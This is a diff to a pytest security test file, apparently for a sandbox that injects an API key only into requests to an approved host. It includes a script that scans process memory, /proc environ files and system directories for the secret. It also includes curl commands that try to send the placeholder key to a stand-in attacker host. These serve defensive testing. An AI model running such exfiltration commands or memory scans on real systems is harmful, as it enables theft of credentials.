@@ -6,7 +6,9 @@ from __future__ import annotations
 import json
 import os
 from collections.abc import Iterator
+from contextlib import suppress
 from pathlib import Path
+from typing import Any
 
 import pytest
 from hostile_kit import host_pids, runtime
@@ -20,42 +22,44 @@ from sloplet.errors import SlopletError
 VALUE = "-".join(("value", "canary", f"{os.getpid():x}", "93c1b7"))
 OTHER = VALUE.replace("canary", "second")
 NAME = "API_KEY"
-CURL = ["curl", "-sS", "-m", "15"]
-SEND = f'curl -sS -m 15 -H "Authorization: Bearer ${NAME}" https://{GOOD}/used'
+CURL = ["curl", "-fsS", "-m", "15"]
+SEND = f'curl -fsS -m 15 -H "Authorization: Bearer ${NAME}" https://{GOOD}/used'
 
-#: Looks through all that one can see inside for a text given backwards; prints where.
+#: Looks through all that one can see inside for a text, given in two halves so that it never is in there itself.
 SEARCH = """
 import os, re, sys
-wanted = sys.argv[1][::-1].encode()
-def look(path, limit=1 << 26):
+first, second = sys.argv[1].encode(), sys.argv[2].encode()
+def holds(data):
+    return any(data.startswith(second, found.end()) for found in re.finditer(re.escape(first), data))
+def look(path):
     try:
         with open(path, "rb") as file:
-            return wanted in file.read(limit)
+            return holds(file.read(1 << 23))
     except OSError:
         return False
 found, looked = [], 0
 for pid in filter(str.isdigit, os.listdir("/proc")):
-    if int(pid) == os.getpid():
-        continue
     for name in ("environ", "cmdline", "comm", "maps", "status"):
         looked += 1
         if look(f"/proc/{pid}/{name}"):
             found.append(f"/proc/{pid}/{name}")
     try:
-        areas = re.findall(r"^(\\w+)-(\\w+) r.*$", open(f"/proc/{pid}/maps").read(), re.M)
+        areas = re.findall(r"^(\\w+)-(\\w+) rw.*$", open(f"/proc/{pid}/maps").read(), re.M)
         memory = open(f"/proc/{pid}/mem", "rb", 0)
     except OSError:
         continue
     for start, end in areas:
         try:
             memory.seek(int(start, 16))
-            if wanted in memory.read(min(int(end, 16) - int(start, 16), 1 << 26)):
+            if holds(memory.read(min(int(end, 16) - int(start, 16), 1 << 23))):
                 found.append(f"/proc/{pid}/mem")
                 break
         except (OSError, OverflowError):
             continue
-for top in ("/workspace", "/tmp", "/etc", "/run", "/home", "/root", "/var", "/dev", "/usr/local/share", "/opt"):
-    for folder, _, names in os.walk(top):
+ours = (sys.prefix, sys.base_prefix)
+for top in ("/workspace", "/tmp", "/etc", "/run", "/home", "/root", "/var", "/usr/local/share"):
+    for folder, below, names in os.walk(top):
+        below[:] = [name for name in below if not os.path.join(folder, name).startswith(ours)]
         for name in names:
             path = os.path.join(folder, name)
             if os.path.isfile(path):
@@ -64,6 +68,14 @@ for top in ("/workspace", "/tmp", "/etc", "/run", "/home", "/root", "/var", "/de
                     found.append(path)
 print(looked, *found)
 """
+
+
+def searched(box: Sandbox, text: str, user: str) -> list[str]:
+    half = len(text) // 2
+    result = box.run(["python3", "-c", SEARCH, text[:half], text[half:]], user=user, timeout=60)
+    looked, *found = result.stdout.split()
+    assert int(looked) > 50, result.stderr
+    return found
 
 
 @pytest.fixture(scope="module")
@@ -103,11 +115,9 @@ def test_s01_it_is_sent_and_is_not_here(rung: Rung, box: Sandbox, net: Internet)
         assert mark
         assert mark != VALUE
         for user in ("agent", "root") if rung.can.users else ("agent",):
-            looked, *found = box.run(["python3", "-c", SEARCH, VALUE[::-1]], user=user, timeout=100).stdout.split()
-            assert int(looked) > 50
-            assert found == []
-            control = box.run(["python3", "-c", SEARCH, mark[::-1]], user=user, timeout=100).stdout
-            assert "/environ" in control, "the placeholder is in the environment of commands"
+            assert searched(box, VALUE, user) == []
+            control = searched(box, mark, user)
+            assert any(path.endswith("/environ") for path in control), "commands have the placeholder"
     finally:
         holder.kill()
 
@@ -151,22 +161,25 @@ def test_s01_what_is_said_about_it(box: Sandbox, net: Internet) -> None:
 
 def _memory_holds(pid: int, wanted: bytes) -> bool | None:
     """Whether a process's memory has that text; None if it may not be looked at."""
-    found = False
     try:
         with open(f"/proc/{pid}/mem", "rb", 0) as memory:
             for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
                 area, rights = line.split()[:2]
                 start, end = (int(word, 16) for word in area.split("-"))
-                if not rights.startswith("rw") or end - start > 2**30:
-                    continue
-                try:
-                    memory.seek(start)
-                    found = found or wanted in memory.read(end - start)
-                except (OSError, OverflowError):
-                    continue
+                if rights.startswith("rw") and end - start <= 2**28 and _area_holds(memory, start, end, wanted):
+                    return True
     except OSError:
         return None
-    return found
+    return False
+
+
+def _area_holds(memory: Any, start: int, end: int, wanted: bytes) -> bool:
+    with suppress(OSError, OverflowError):
+        for at in range(start, end, 2**22):
+            memory.seek(at)
+            if wanted in memory.read(min(2**22 + len(wanted), end - at)):
+                return True
+    return False
 
 
 def test_s01_from_the_host(box: Sandbox, net: Internet) -> None:
@@ -187,8 +200,9 @@ def test_s01_from_the_host(box: Sandbox, net: Internet) -> None:
         assert True in {_memory_holds(pid, mark.encode()) for pid in host_pids(box)}, "the positive control"
         sleeper.kill()
     assert _memory_holds(os.getpid(), VALUE.encode()) in (True, None), "this process does hold it"
-    assert files_with(runtime().home.path, VALUE.encode()) == []
-    assert files_with(runtime().home.path, mark.encode()), "the positive control"
+    found_in = files_with(runtime().home.path, VALUE.encode(), mark.encode())
+    assert found_in[0] == []
+    assert found_in[1], "the positive control"
 
 
 def test_s01_only_where_it_belongs(box: Sandbox, net: Internet) -> None:
@@ -199,7 +213,6 @@ def test_s01_only_where_it_belongs(box: Sandbox, net: Internet) -> None:
         box.run(SEND.replace(GOOD, EVIL)),
         box.run(SEND.replace("https", "http")),
         box.run([*CURL, f"https://{GOOD}/?key={mark}"]),
-        box.run([*CURL, "-d", f"key={mark}", f"https://{GOOD}/"]),
         box.run([*CURL, f"http://{EVIL}/{mark}"]),
         box.run([*CURL, "-d", mark, f"http://{EVIL}/"]),
     ]
